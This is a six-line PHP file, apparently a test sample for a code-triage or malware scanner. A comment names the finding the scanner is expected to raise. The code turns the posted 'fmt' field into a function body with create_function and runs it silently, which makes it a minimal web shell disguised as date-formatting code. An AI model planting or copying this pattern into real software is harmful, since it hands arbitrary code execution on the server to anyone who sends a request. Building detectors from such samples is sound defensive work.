<?php
// triage-expect: triage_php_tiny_dynamic_exec
// The request's text becomes a function body through a variable; comments dress it as date code.
$fmt = $_POST['fmt'];
$render = create_function('', $fmt);
@$render();
